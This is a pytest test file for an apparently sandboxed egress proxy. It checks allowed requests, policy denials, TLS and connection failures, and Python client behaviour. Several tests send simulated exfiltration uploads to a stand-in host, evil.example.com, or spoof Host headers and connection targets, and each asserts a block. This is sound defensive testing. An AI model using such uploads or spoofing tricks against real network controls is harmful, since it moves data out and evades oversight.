"""What people see with curl and Python: allowed, denied, and upstream servers that are no good."""

import asyncio
import json
import subprocess
import sys

import pytest

from .conftest import Bench

pytestmark = pytest.mark.anyio


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
async def test_an_allowed_request_reaches_its_origin_over_tls(bench: Bench, version: str) -> None:
    code, out, err = await bench.curl(version, "https://api.example.com/x?key=1")
    assert (code, err) == (0, "")
    assert out.endswith("[200 1.1]" if version == "--http1.1" else "[200 2]")
    assert bench.tenant.flows[0].request.path == "/x"
    assert bench.tenant.flows[0].status == 200


async def test_an_allowed_request_reaches_its_origin_without_tls(bench: Bench) -> None:
    code, out, _ = await bench.curl("http://api.example.com/x", "-H", "Proxy-Authorization: Basic x")
    assert code == 0
    assert out.startswith("GET /x HTTP/1.1\r\nHost: api.example.com\r\n")
    assert "proxy-" not in out.lower()
    assert bench.tenant.flows[0].request.protocol == "http"


async def test_a_client_that_offers_http2_gets_what_the_origin_has(bench: Bench) -> None:
    _, out, _ = await bench.curl("--http2", "https://h1.example.com/a", "https://h1.example.com/b")
    assert out.count("[200 1.1]") == 2
    assert bench.tenant.dialled == ["h1.example.com:443"]  # one connection, made before the client was answered
    _, out, _ = await bench.curl("--http2", "https://api.example.com/a", "https://api.example.com/b")
    assert out.count("[200 2]") == 2
    assert bench.tenant.dialled == ["h1.example.com:443", "api.example.com:443"]


@pytest.mark.parametrize(
    ("arguments", "status"),
    [
        (["--http1.1", "https://evil.example.com/"], "[403 1.1]"),
        (["--http2", "https://evil.example.com/"], "[403 2]"),
        (["http://evil.example.com/"], "[403 1.1]"),
        (["--http1.1", "-d", "some body", "https://evil.example.com/"], "[403 1.1]"),
        (["--http2", "-d", "some body", "https://evil.example.com/"], "[403 2]"),
    ],
)
async def test_a_denial_says_why_within_tls(bench: Bench, arguments: list[str], status: str) -> None:
    code, out, _ = await bench.curl("-i", *arguments)
    assert code == 0
    assert "Blocked by the network policy of sandbox 'web': evil.example.com:" in out
    assert "x-sandbox-policy: blocked" in out.lower()
    assert "content-type: text/plain; charset=utf-8" in out.lower()
    assert out.endswith(status)
    assert bench.tenant.dialled == []
    assert [flow.decision.allowed for flow in bench.tenant.flows] == [False]


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
async def test_a_denied_upload_is_answered_and_not_kept(bench: Bench, tmp_path, version: str) -> None:  # type: ignore[no-untyped-def]
    big = tmp_path / "big"
    big.write_bytes(b"x" * (20 << 20))
    code, out, _ = await bench.curl(version, "-T", str(big), "https://evil.example.com/up")
    assert code == 0
    assert "Blocked by" in out
    assert bench.tenant.dialled == []


async def test_each_path_is_decided_by_itself_on_one_connection(bench: Bench) -> None:
    bench.tenant.denied.add("/secret")
    _, out, _ = await bench.curl(
        "--http1.1", *(f"https://h1.example.com{path}" for path in ("/a", "/secret", "/b")), "-w", " [%{http_code}]"
    )
    assert [mark for mark in ("[200]", "[403]") if mark in out] == ["[200]", "[403]"]
    assert [flow.decision.allowed for flow in bench.tenant.flows] == [True, False, True]
    assert bench.tenant.dialled == ["h1.example.com:443"]


async def test_the_origin_cannot_pretend_to_be_the_policy(bench: Bench) -> None:
    _, out, _ = await bench.curl("-i", "--http1.1", "https://h1.example.com/echo")
    assert "x-sandbox-policy" not in out.split("\r\n\r\n")[1].lower()


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
@pytest.mark.parametrize(
    ("host", "status", "why"),
    [
        ("misnamed.example.com", 502, "its certificate is not trusted (Hostname mismatch"),
        ("strange.example.com", 502, "its certificate is not trusted (unable to get local issuer certificate)"),
        ("closed.example.com", 502, "it refused the connection"),
        ("cleartext.example.com", 502, "it does not speak TLS"),
    ],
)
async def test_a_server_that_cannot_be_reached_is_told_in_one_sentence(
    bench: Bench, host: str, status: int, why: str, version: str
) -> None:
    code, out, _ = await bench.curl("-i", version, f"https://{host}/")
    assert code == 0
    assert f"cannot reach {host}:443: {why}" in out
    assert "<html" not in out.lower()
    assert f"[{status} " in out
    flow = bench.tenant.flows[-1]
    assert (flow.status, flow.error.startswith(why)) == (status, True)


async def test_a_server_that_does_not_answer_is_a_504(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    async def dial(*_: object) -> None:
        raise TimeoutError

    monkeypatch.setattr(bench.tenant, "dial", dial)
    _, out, _ = await bench.curl("--http1.1", "https://api.example.com/")
    assert out == "The gateway of the sandbox cannot reach api.example.com:443: it did not answer in time.\n [504 1.1]"


async def test_a_name_without_addresses_is_a_502(bench: Bench) -> None:
    _, out, _ = await bench.curl("--http1.1", "https://nowhere.example.com/")
    assert out == "nowhere.example.com does not resolve: no such name.\n [502 1.1]"


@pytest.mark.parametrize(
    "arguments",
    [
        ["-H", "Host: evil.example.com", "https://api.example.com/"],
        ["--http1.1", "-H", "Host: evil.example.com", "https://api.example.com/"],
        ["-H", "Host: api.example.com:8443", "https://api.example.com/"],
        ["-H", "Host: evil.example.com", "http://api.example.com/"],
        ["-k", "--connect-to", "other.example.com:443:api.example.com:443", "https://other.example.com/"],
        ["-k", "--http1.1", "--connect-to", "other.example.com:443:api.example.com:443", "https://other.example.com/"],
    ],
)
async def test_names_that_disagree_are_refused(bench: Bench, arguments: list[str]) -> None:
    code, out, _ = await bench.curl(*arguments)
    assert code == 0
    assert "but the connection is to api.example.com:" in out
    assert "[403 " in out
    assert bench.origin.heads == []


async def test_names_that_are_spelled_otherwise_agree(bench: Bench) -> None:
    _, out, _ = await bench.curl("--http1.1", "-H", "Host: API.example.com.:443", "https://api.example.com/")
    assert "[200 1.1]" in out
    assert "\r\nHost: api.example.com\r\n" in out
    _, out, _ = await bench.curl("http://host.docker.internal:8000/")
    assert "\r\nHost: localhost:8000\r\n" in out


async def test_a_client_that_dialled_itself_is_served(bench: Bench) -> None:
    port = await bench.transparent("api.example.com", 443)
    code, out, _ = await bench.curl("--noproxy", "*", "--connect-to", f"::127.0.0.1:{port}", "https://api.example.com/")
    assert (code, out[-7:]) == (0, "[200 2]")
    port = await bench.transparent("api.example.com", 80)
    code, out, _ = await bench.curl("--noproxy", "*", "--connect-to", f"::127.0.0.1:{port}", "http://api.example.com/")
    assert (code, out[-9:]) == (0, "[200 1.1]")


@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_a_client_that_dialled_another_name_is_refused(bench: Bench, scheme: str) -> None:
    port = await bench.transparent("api.example.com", 443 if scheme == "https" else 80)
    _, out, _ = await bench.curl(
        "-k", "--noproxy", "*", "--connect-to", f"::127.0.0.1:{port}", f"{scheme}://other.example.com/"
    )
    assert "[403 " in out
    assert bench.origin.heads == []


async def test_a_client_that_does_not_trust_us_is_logged(bench: Bench) -> None:
    code, _, err = await bench.curl("https://h1.example.com/", trusted=False)
    assert code == 60
    assert "certificate" in err
    assert "broke off the TLS handshake" in bench.tenant.flows[0].error
    assert bench.origin.heads == []


@pytest.mark.parametrize("url", ["https://h1.example.com/bytes/65536", "http://api.example.com/bytes/65536"])
async def test_python_programs_work(bench: Bench, url: str) -> None:
    program = "import os, urllib.request; print(len(urllib.request.urlopen(os.environ['URL'], timeout=10).read()))"
    proxy = f"http://127.0.0.1:{bench.port}"
    environment = {"URL": url, "https_proxy": proxy, "http_proxy": proxy, "SSL_CERT_FILE": str(bench.authority)}
    child = await asyncio.to_thread(
        subprocess.run, [sys.executable, "-c", program], env=environment, capture_output=True, text=True, check=False
    )
    assert (child.stdout, child.stderr) == ("65536\n", "")


async def test_python_reads_the_denial_of_an_upload(bench: Bench) -> None:
    program = """
import http.client, json, os, ssl
client = http.client.HTTPSConnection("127.0.0.1", int(os.environ["PORT"]), timeout=10)
client.set_tunnel("evil.example.com", 443)
client.request("POST", "/", body=b"x" * (4 << 20))
answer = client.getresponse()
print(json.dumps([answer.status, answer.read().decode()]))
"""
    environment = {"PORT": str(bench.port), "SSL_CERT_FILE": str(bench.authority)}
    child = await asyncio.to_thread(
        subprocess.run, [sys.executable, "-c", program], env=environment, capture_output=True, text=True, check=False
    )
    status, text = json.loads(child.stdout)
    assert status == 403
    assert text.startswith("Blocked by the network policy")
